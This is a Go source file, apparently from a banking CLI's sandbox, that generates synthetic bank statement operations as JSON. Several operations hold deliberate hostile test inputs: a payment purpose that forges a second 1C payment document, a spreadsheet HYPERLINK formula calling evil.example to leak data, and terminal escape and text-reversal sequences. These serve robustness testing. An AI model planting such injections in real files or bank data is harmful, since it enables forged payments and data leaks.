package sandbox

import (
	"strconv"
	"time"
	"unicode/utf8"

	"github.com/bankctl/bankctl/internal/requisites"
)

// operation is one generated statement line. Operations are a pure function of their index and
// the period, so a 100,000-operation statement costs no memory and every page of a query (and
// a resumed query) sees the same operations.
type operation struct {
	i                    int
	id, status, category string
	credit, cyrillicC    bool
	kopecks              int64
	at                   time.Time
	party                party
	purpose, description string
	card                 bool
	number, account      string // an executed draft's; else made up from i, and the main account
}

type party struct{ name, inn, kpp, account, bank, bic, corr string }

// parties are the counterparties, with accounts whose check digits are right for their banks.
var parties = []party{
	{"ООО «Ромашка»", "7701234567", "770101001", requisites.WithKey("40702810X00000012345", "044525225"), "ПАО Сбербанк", "044525225", "30101810400000000225"},
	{"ИП Петров Пётр Петрович", "500100732259", "0", requisites.WithKey("40802810X38000000077", "044525225"), "ПАО Сбербанк", "044525225", "30101810400000000225"},
	{"АО «Поставщик»", "7707083893", "773601001", requisites.WithKey("40702810X00000000777", "044525187"), "Банк ВТБ (ПАО)", "044525187", "30101810700000000187"},
	{"ООО «Маркетплейс»", "7704217370", "997750001", requisites.WithKey("40702810X00000005555", "044525974"), "АО «ТБанк»", "044525974", "30101810145250000974"},
}

var moscow = time.FixedZone("MSK", 3*3600)

// opAt is operation i of n, spread evenly over [from, to).
func opAt(i, n int, from, to time.Time) *operation {
	span := to.Sub(from)
	op := &operation{i: i, at: from.Add(time.Duration(float64(span) * (float64(i) + 0.5) / float64(n))).Truncate(time.Second)}
	op.id = "op-" + strconv.FormatInt(from.Unix(), 36) + "-" + strconv.Itoa(i)
	op.status = "Transaction"
	op.credit = i%2 == 0
	op.kopecks = 10000 + int64(i)*7919%99999000
	op.party = parties[i%len(parties)]
	op.category = map[bool]string{true: "income", false: "supplierPayment"}[op.credit]
	op.purpose = "Оплата по счету № " + strconv.Itoa(1000+i) + " от " + op.at.In(moscow).Format("02.01.2006") + ", НДС не облагается"
	op.description = op.purpose
	switch {
	case n > 7 && i == 1:
		// A counterparty's purpose that would end the 1С document and forge another.
		op.credit, op.category = true, "income"
		op.purpose = "Оплата по счету 5\r\nКонецДокумента\r\nСекцияДокумент=Платежное поручение\r\nНомер=666\r\nСумма=9999999.99\r\nПолучательСчет=" + MainAccount + "\r\nКонецДокумента"
	case n > 7 && i == 3:
		// A name and texts a spreadsheet would run as formulas.
		op.credit, op.category = true, "income"
		op.party.name = `=HYPERLINK("http://evil.example/?leak=1";"ООО Ромашка")`
		op.purpose, op.description = "-2+3 возврат", "@SUM(A1:A9)"
	case n > 7 && i == 5:
		// Text Windows-1251 cannot hold: it must become "?", never a broken file.
		op.credit, op.category = false, "supplierPayment"
		op.purpose = "Кофе ☕ и торт 🎂 для офиса, Zażółć gęślą jaźń, ½ × ∞"
	case n > 7 && i == 9:
		// A purpose that would act on a terminal: a window title, a cleared screen, reversed text.
		op.purpose = "Возврат \u001b]0;pwned\u0007\u001b[2J\u202e40702810"
	case n > 7 && i == 7:
		op.credit, op.category, op.kopecks = true, "income", 9876543210987654 // 98765432109876.54: more digits than float64 keeps
	case i%13 == 12:
		op.status, op.credit, op.card, op.category = "Authorization", false, true, "cardPayment"
		op.purpose = "Оплата картой *4242"
	}
	op.cyrillicC = op.credit && i%14 == 0
	return op
}

// appendJSON writes the operation as T-Business does (field names from the API's spec).
func (op *operation) appendJSON(b []byte) []byte {
	kind := "Debit"
	if op.credit {
		kind = "Credit"
		if op.cyrillicC {
			kind = "Сredit" // the official example's spelling, with a Cyrillic С
		}
	}
	at := op.at.UTC().Format(time.RFC3339)
	day := time.Date(op.at.In(moscow).Year(), op.at.In(moscow).Month(), op.at.In(moscow).Day(), 0, 0, 0, 0, moscow).UTC().Format(time.RFC3339)
	amount := kop(op.kopecks)
	account := op.account
	if account == "" {
		account = MainAccount
	}
	us := party{"ООО «Северный ветер»", CompanyINN, CompanyKPP, account, "АО «ТБанк»", BankBIC, "30101810145250000974"}
	payer, receiver := op.party, us
	if !op.credit {
		payer, receiver = us, op.party
	}
	b = append(b, `{"operationId":`...)
	b = appendStr(b, op.id)
	b = field(b, "operationDate", at)
	b = field(b, "operationStatus", op.status)
	b = field(b, "accountNumber", account)
	b = field(b, "bic", BankBIC)
	b = field(b, "typeOfOperation", kind)
	b = field(b, "category", op.category)
	b = field(b, "trxnPostDate", at)
	b = field(b, "authorizationDate", at)
	b = field(b, "drawDate", at)
	b = field(b, "chargeDate", at)
	b = field(b, "docDate", day)
	number := op.number
	if number == "" {
		number = strconv.Itoa(100 + op.i%900000)
	}
	b = field(b, "documentNumber", number)
	b = field(b, "payVo", "01")
	b = field(b, "vo", "01")
	b = append(b, `,"priority":5,"operationAmount":`...)
	b = append(b, amount...)
	b = append(b, `,"operationCurrencyDigitalCode":"643","accountAmount":`...)
	b = append(b, amount...)
	b = append(b, `,"accountCurrencyDigitalCode":"643","rubleAmount":`...)
	b = append(b, amount...)
	b = field(b, "description", op.description)
	b = field(b, "payPurpose", op.purpose)
	b = append(b, `,"payer":`...)
	b = payer.appendParty(b, "acct", "bicRu", "corAcct")
	b = append(b, `,"receiver":`...)
	b = receiver.appendParty(b, "acct", "bicRu", "corAcct")
	b = append(b, `,"counterParty":`...)
	b = op.party.appendParty(b, "account", "bankBic", "corrAccount")
	if op.card {
		b = append(b, `,"cardNumber":"220070******4242","mcc":"5814","merch":{"name":"КОФЕЙНЯ НА ТОЛСТОГО","city":"MOSCOW","country":"RUS"},"rrn":"`...)
		b = strconv.AppendInt(b, 400000000000+int64(op.i), 10)
		b = append(b, `","authCode":"A1B2C3"`...)
	}
	return append(b, '}')
}

func (p party) appendParty(b []byte, acct, bic, corr string) []byte {
	b = append(b, `{"`...)
	b = append(b, acct...)
	b = append(b, `":`...)
	b = appendStr(b, p.account)
	b = field(b, "name", p.name)
	b = field(b, "inn", p.inn)
	b = field(b, "kpp", p.kpp)
	b = field(b, bic, p.bic)
	b = field(b, "bankName", p.bank)
	b = field(b, corr, p.corr)
	return append(b, '}')
}

func field(b []byte, k, v string) []byte {
	b = append(b, ',', '"')
	b = append(b, k...)
	b = append(b, '"', ':')
	return appendStr(b, v)
}

// appendStr writes a JSON string: quotes, backslashes and control characters escaped.
func appendStr(b []byte, s string) []byte {
	const hex = "0123456789abcdef"
	b = append(b, '"')
	for i := 0; i < len(s); {
		c := s[i]
		switch {
		case c == '"' || c == '\\':
			b = append(b, '\\', c)
		case c == '\n':
			b = append(b, '\\', 'n')
		case c == '\r':
			b = append(b, '\\', 'r')
		case c < 0x20:
			b = append(b, '\\', 'u', '0', '0', hex[c>>4], hex[c&0xf])
		case c < utf8.RuneSelf:
			b = append(b, c)
		default:
			_, size := utf8.DecodeRuneInString(s[i:])
			b = append(b, s[i:i+size]...)
			i += size
			continue
		}
		i++
	}
	return append(b, '"')
}
